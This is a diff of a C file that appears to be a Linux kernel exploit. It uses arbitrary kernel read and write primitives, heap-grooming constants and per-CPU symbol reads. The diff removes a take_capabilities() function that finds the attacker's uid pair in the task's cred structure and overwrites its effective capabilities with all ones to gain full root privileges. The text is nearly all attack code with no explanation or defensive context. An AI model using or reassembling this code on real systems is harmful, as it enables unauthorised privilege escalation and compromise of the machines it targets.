@@ -23,9 +23,6 @@
 #define HOLES		10240	/* and as many that are held */
 #define TRIES		50
 #define AT_ONCE		128
-/* struct cred has its capabilities behind eight ids. */
-#define CRED_SIZE	128
-#define CRED_EFFECTIVE	56
 
 #define NR_SAVED	1	/* byte of kpkeys_cpu: interrupted sections */
 #define FRAMES		"kpkeys_frames"	/* a pointer to pointers to pages, a byte for each frame */
@@ -97,17 +94,6 @@ bool has_hit_section(int cpu)
 
 	kread(ksymbol_cpu("kpkeys_cpu", cpu) + NR_SAVED, &nr, sizeof(nr));
 	return nr;
-}
-
-bool take_capabilities(void)
-{
-	uint64_t ids, two = ATTACKER_UID | (uint64_t)ATTACKER_UID << 32;
-	struct task task;
-
-	if (ktask(0, &task))
-		return false;
-	ids = find_word(task.cred, CRED_SIZE, two);
-	return ids && !kwrite64(ids + CRED_EFFECTIVE, ~0UL);
 }
 
 uint64_t now_ms(void)
